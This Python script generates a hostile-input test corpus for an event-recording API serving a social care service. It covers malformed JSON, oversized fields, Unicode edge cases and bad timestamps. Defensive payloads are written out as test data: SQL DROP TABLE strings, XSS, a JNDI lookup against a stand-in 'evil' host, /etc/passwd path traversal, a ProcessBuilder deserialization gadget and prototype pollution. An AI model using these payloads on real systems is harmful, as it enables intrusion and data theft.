#!/usr/bin/env python3
"""Writes the hostile-input corpus: one raw request body per file, described in cases.tsv.

Run from this folder to regenerate (python3 generate.py). Columns of cases.tsv:
file, path ({person} is replaced by a fresh person id), content type, expectation
(reject = a 4xx problem and nothing stored; verbatim:<field> = stored, and <field> replays byte-for-byte).
"""
import json, os, glob

for f in glob.glob('bodies/*'):
    os.remove(f)
os.makedirs('bodies', exist_ok=True)
rows = []
n = 0

def add(name, body, expect='reject', path='/api/v1/persons/{person}/events', ctype='application/json'):
    global n
    n += 1
    fname = f'{n:03d}-{name}.body'
    data = body if isinstance(body, bytes) else body.encode('utf-8', 'surrogatepass')
    with open(os.path.join('bodies', fname), 'wb') as fh:
        fh.write(data)
    rows.append('\t'.join([fname, path, ctype, expect]))

def base(eid=None):
    return {"type": "ContactRecorded", "eventId": eid or f"hostile-{n+1:03d}", "occurredAt": "2026-03-02T09:30:00Z",
            "service": "adult-social-care", "team": "front-door", "practitioner": "staff-17", "channel": "PHONE",
            "demandType": "FAILURE", "failureCategory": "PROGRESS_CHASING", "whatMatters": "a call back",
            "durationMinutes": 12, "faceToFace": False, "tags": ["t1"]}

def j(obj):
    return json.dumps(obj)

valid = j(base())
# 1. broken and truncated JSON
for cut in range(1, len(valid), max(1, len(valid) // 45)):
    add(f'truncated-at-{cut}', valid[:cut])
for name, body in [('empty', ''), ('whitespace', '   \n'), ('bare-null', 'null'), ('bare-array', '[]'), ('bare-string', '"event"'),
                   ('bare-number', '42'), ('bare-true', 'true'), ('two-objects', valid + valid), ('trailing-comma', valid[:-1] + ',}'),
                   ('single-quotes', valid.replace('"', "'")), ('unquoted-keys', '{type: "ContactRecorded"}'),
                   ('comment', '/* hi */' + valid), ('nan', valid.replace('12', 'NaN')), ('infinity', valid.replace('12', 'Infinity')),
                   ('hex-number', valid.replace('12', '0x0C')), ('leading-zero', valid.replace('12', '012')),
                   ('trailing-garbage', valid + 'garbage'), ('unclosed-string', '{"type": "ContactRecorded'),
                   ('control-char-raw', valid.replace('a call back', 'a call\x01back')), ('bad-escape', valid.replace('a call back', 'a \\q back'))]:
    add(name, body)
# 2. deep nesting
for depth in (33, 64, 1000, 10000):
    add(f'nested-arrays-{depth}', valid[:-1] + ', "tags": ' + '[' * depth + ']' * depth + '}')
    add(f'nested-objects-{depth}', valid[:-1] + ', "x": ' + '{"a":' * depth + '1' + '}' * depth + '}')
correction = {"type": "EventCorrected", "eventId": "hostile-corr", "occurredAt": "2026-03-02T09:30:00Z",
              "correctsEventId": "nope", "reason": "r", "changes": {}}
c = j(correction)
add('nested-changes-100', c.replace('"changes": {}', '"changes": ' + '{"a":' * 100 + '1' + '}' * 100))
# 3. huge strings and arrays
for field, size in [('whatMatters', 4001), ('eventId', 129), ('service', 101), ('team', 101), ('practitioner', 101),
                    ('organisation', 101), ('sourceSystem', 101), ('correlationId', 129), ('causationId', 129), ('failureCategory', 65)]:
    e = base(); e[field] = ('X' if field != 'failureCategory' else 'A') * size
    add(f'too-long-{field}', j(e))
e = base(); e['whatMatters'] = 'x' * 70000
add('oversize-body-70k', j(e))
e = base(); e['tags'] = [f't{i}' for i in range(21)]
add('tags-21', j(e))
e = base(); e['tags'] = ['t'] * 20000
add('tags-20000', j(e))
e = base(); e['tags'] = ['x' * 65]
add('tag-too-long', j(e))
e = base(); e['tags'] = ['']
add('tag-blank', j(e))
# 4. wrong types for every field
wrong = {'number': 7, 'float': 7.5, 'bool': True, 'array': ['x'], 'object': {'x': 1}, 'string': 'seven'}
for field in base().keys():
    for wname, value in wrong.items():
        if field == 'durationMinutes' and wname == 'number':
            continue
        if field == 'faceToFace' and wname == 'bool':
            continue
        if field == 'tags' and wname == 'array':
            continue
        if wname == 'string' and field in ('type', 'eventId', 'service', 'team', 'practitioner', 'whatMatters'):
            continue
        if wname == 'string' and field in ('channel', 'demandType', 'failureCategory', 'occurredAt'):
            value = 'seven'
        e = base(); e[field] = value
        add(f'wrong-type-{field}-{wname}', j(e))
e = base(); e['durationMinutes'] = -1
add('negative-duration', j(e))
e = base(); e['durationMinutes'] = 10081
add('duration-over-a-week', j(e))
e = base(); e['durationMinutes'] = 2 ** 40
add('duration-overflow', j(e))
e = base(); e['durationMinutes'] = 1e400
add('duration-1e400', j(e).replace('Infinity', '1e400'))
# 5. nulls
for field in ('type', 'eventId', 'occurredAt', 'service', 'channel', 'demandType'):
    e = base(); e[field] = None
    add(f'null-{field}', j(e))
    e = base(); del e[field]
    add(f'missing-{field}', j(e))
add('all-null', j({k: None for k in base().keys()}))
e = base(); e['tags'] = [None]
add('null-tag', j(e))
e = base(); e['demandType'] = 'VALUE'
add('value-with-failure-category', j(e))
e = base(); del e['failureCategory']
add('failure-without-category', j(e))
# 6. duplicated keys
for field in base().keys():
    dup = valid[:-1] + f', "{field}": ' + json.dumps(base()[field]) + '}'
    add(f'duplicate-key-{field}', dup)
# 7. invalid and extreme timestamps
for name, ts in [('month-13', '2026-13-01T00:00:00Z'), ('feb-30', '2026-02-30T00:00:00Z'), ('hour-25', '2026-01-01T25:00:00Z'),
                 ('no-zone', '2026-01-01T10:00:00'), ('date-only', '2026-01-01'), ('year-0', '0000-01-01T00:00:00Z'),
                 ('year-1026', '1026-01-01T00:00:00Z'), ('far-future', '+1000000000-01-01T00:00:00Z'), ('year-9999', '9999-12-31T23:59:59Z'),
                 ('next-year', '2027-11-25T00:00:00Z'), ('epoch-string', '1700000000'), ('words', 'yesterday'), ('empty', ''),
                 ('slashes', '2026/01/01 10:00'), ('offset-99', '2026-01-01T10:00:00+99:00'),
                 ('negative-year', '-2026-01-01T00:00:00Z'), ('spaces', ' 2026-01-01T10:00:00Z ')]:
    e = base(); e['occurredAt'] = ts
    add(f'timestamp-{name}', j(e))
e = base(); e['occurredAt'] = 1700000000
add('timestamp-epoch-number', j(e))
# 8. Unicode edge cases
for name, text in [('lone-high-surrogate', '\\ud800'), ('lone-low-surrogate', '\\udc00'), ('reversed-pair', '\\udc00\\ud800'),
                   ('nul-escape', '\\u0000'), ('nul-in-key', None)]:
    if text is None:
        add(name, valid[:-1] + ', "wh\\u0000at": 1}')
    else:
        add(f'{name}-whatMatters', valid.replace('a call back', 'a call' + text))
        add(f'{name}-service', valid.replace('adult-social-care', 'adult' + text))
add('invalid-utf8-bytes', valid.encode()[:-20] + b'\xff\xfe\xfd' + valid.encode()[-20:])
add('overlong-utf8-slash', valid.encode().replace(b'a call back', b'a \xc0\xaf back'))
# RFC 8259: JSON exchanged between systems is UTF-8
add('utf16-body', valid.encode('utf-16-le'))
add('latin1-declared-json', valid.replace('a call back', 'caf\u00e9').encode('latin-1'))
for name, text in [('rtl-override', 'I need \u202ehelp\u202c now'), ('zero-width', 'he\u200bl\u200dp'), ('emoji', 'tea \U0001F375 please'),
                   ('combining', 'Zo\u0308e'), ('bom-inside', '\ufeffhelp'), ('cjk', '\u6211\u9700\u8981\u5e2e\u52a9'),
                   ('arabic', '\u0623\u062d\u062a\u0627\u062c \u0645\u0633\u0627\u0639\u062f\u0629'), ('newlines', 'line1\nline2\r\nline3'),
                   ('tab', 'a\tb')]:
    e = base(f'hostile-ok-{name}'); e['whatMatters'] = text
    add(f'unicode-ok-{name}', json.dumps(e, ensure_ascii=False), expect='verbatim:whatMatters')
add('bom-prefixed-body', b'\xef\xbb\xbf' + j(base('hostile-bom')).encode(), expect='verbatim:eventId')
for name, eid in [('rtl-in-event-id', 'e\u202e1'), ('space-in-event-id', 'e 1'), ('slash-in-event-id', 'e/1'), ('emoji-in-event-id', 'e\U0001F375')]:
    e = base(); e['eventId'] = eid
    add(f'unicode-{name}', json.dumps(e, ensure_ascii=False))
# 9. injection strings as content: stored verbatim, never executed
for name, text in [('sql-drop', "'; DROP TABLE domain_event_entry; --"), ('sql-union', "x' UNION SELECT password FROM users --"),
                   ('html-script', '<script>alert(1)</script>'), ('html-img', '<img src=x onerror=alert(1)>'),
                   ('html-entities', '&lt;b&gt; &amp; &#x3C;'), ('log-forging', 'ok\n2026-01-01 ERROR forged entry\r\nmore'),
                   ('ansi-escape', '\x1b[31mred\x1b[0m'), ('template', '${jndi:ldap://evil/a} {{7*7}} #{7*7}'),
                   ('path', '../../../../etc/passwd'), ('json-in-string', '{"type":"EventRetracted"}'),
                   ('markdown', '[click](javascript:alert(1))'), ('csv-formula', '=HYPERLINK("http://x","y")'),
                   ('null-word', 'null'), ('very-long-ok', 'w' * 4000)]:
    e = base(f'hostile-ok-{name}'); e['whatMatters'] = text
    add(f'injection-{name}', j(e), expect='verbatim:whatMatters')
for name, text in [('sql', "'; DROP TABLE event_id_index; --"), ('html', '<b>team</b>')]:
    e = base(f'hostile-ok-team-{name}'); e['team'] = text
    add(f'injection-team-{name}', j(e), expect='verbatim:team')
for name, eid in [('sql', "e'; DROP TABLE x;--"), ('html', '<script>'), ('newline', 'e\n1')]:
    e = base(); e['eventId'] = eid
    add(f'injection-event-id-{name}', j(e))
# 10. unknown types and fields
for t in ('contactrecorded', 'Contact', 'EventDeleted', '', ' ContactRecorded', 'ContactRecorded ', 'java.lang.Runtime'):
    e = base(); e['type'] = t
    add(f'type-{t.strip() or "empty"}-{len(t)}', j(e))
e = base(); e['@class'] = 'java.lang.ProcessBuilder'
add('polymorphic-class-gadget', j(e))
e = base(); e['__proto__'] = {'admin': True}
add('proto-pollution', j(e))
e = base(); e['recordedBy'] = 'someone-else'
add('forged-recorded-by', j(e))
e = base(); e['sequence'] = 0
add('forged-sequence', j(e))
for field, value in [('channel', 'phone'), ('channel', 'PIGEON'), ('demandType', 'value'), ('failureCategory', 'progress_chasing'),
                     ('failureCategory', 'LOST_IN_POST')]:
    e = base(); e[field] = value
    add(f'closed-set-{field}-{value}', j(e))
# 11. other event types broken
for body in [{"type": "ReferralMade", "eventId": "h-r", "occurredAt": "2026-03-02T09:30:00Z", "service": "s"},
             {"type": "ReferralResolved", "eventId": "h-rr", "occurredAt": "2026-03-02T09:30:00Z", "service": "s", "referralId": "r-none", "outcome": "ACCEPTED"},
             {"type": "ReferralResolved", "eventId": "h-rr2", "occurredAt": "2026-03-02T09:30:00Z", "service": "s", "referralId": "r", "outcome": "MAYBE"},
             {"type": "AssessmentCompleted", "eventId": "h-a", "occurredAt": "2026-03-02T09:30:00Z", "service": "s"},
             {"type": "SupportDelivered", "eventId": "h-s", "occurredAt": "2026-03-02T09:30:00Z", "service": "s", "activity": ""},
             {"type": "HandoffMade", "eventId": "h-h", "occurredAt": "2026-03-02T09:30:00Z", "service": "s"},
             {"type": "CaseClosed", "eventId": "h-c", "occurredAt": "2026-03-02T09:30:00Z", "service": "s", "outcome": "DONE"},
             {"type": "CaseClosed", "eventId": "h-c2", "occurredAt": "2026-03-02T09:30:00Z", "service": "s"},
             {"type": "EventCorrected", "eventId": "h-ec", "occurredAt": "2026-03-02T09:30:00Z", "correctsEventId": "x", "reason": "r", "changes": {}},
             {"type": "EventCorrected", "eventId": "h-ec2", "occurredAt": "2026-03-02T09:30:00Z", "correctsEventId": "x", "reason": "r", "changes": {"type": "CaseClosed"}},
             {"type": "EventCorrected", "eventId": "h-ec3", "occurredAt": "2026-03-02T09:30:00Z", "correctsEventId": "x", "reason": "r", "changes": []},
             {"type": "EventCorrected", "eventId": "h-ec4", "occurredAt": "2026-03-02T09:30:00Z", "correctsEventId": "x", "changes": {"a": 1}},
             {"type": "EventRetracted", "eventId": "h-er", "occurredAt": "2026-03-02T09:30:00Z", "correctsEventId": "never-recorded", "reason": "r"},
             {"type": "EventRetracted", "eventId": "h-er2", "occurredAt": "2026-03-02T09:30:00Z", "reason": "r"}]:
    add(f'broken-{body["type"]}-{body["eventId"]}', j(body))
# 12. wrong content types and methods
for ctype in ('text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x',
              'application/octet-stream', 'text/html', 'application/json-patch+json', 'image/png'):
    add('content-type-' + ctype.split(';')[0].replace('/', '-'), valid, ctype=ctype)
# 13. path traversal and bad person ids
for name, pid in [('dotdot', '..'), ('encoded-slash', '..%2F..%2Fetc%2Fpasswd'), ('encoded-nul', 'a%00b'), ('space', 'a%20b'),
                  ('too-long', 'p' * 65), ('unicode', '%C3%A9t%C3%A9'), ('semicolon', 'a;b=c'), ('backslash', 'a%5Cb'),
                  ('percent', 'a%25b'), ('quote', 'a%27b'), ('angle', '%3Cscript%3E'), ('double-dot-segment', 'a/../b')]:
    add(f'person-id-{name}', valid, path=f'/api/v1/persons/{pid}/events')
# 14. batches
item = dict(base('hostile-batch-1')); item['personId'] = '{person}'
for name, body in [('not-object', '[]'), ('events-not-array', '{"events": {}}'), ('events-null', '{"events": null}'),
                   ('empty', '{"events": []}'), ('no-events', '{"items": []}'), ('truncated', '{"events": [' + j(item)[:30]),
                   ('too-many', j({"events": [dict(item, eventId=f'hb-{i}') for i in range(1001)]})),
                   ('duplicate-events-key', '{"events": [], "events": []}'), ('nested-deep', '{"events": ' + '[' * 100 + ']' * 100 + '}')]:
    add(f'batch-{name}', body, path='/api/v1/events/batch')

with open('cases.tsv', 'w') as fh:
    fh.write('\n'.join(rows) + '\n')
print(len(rows), 'cases')
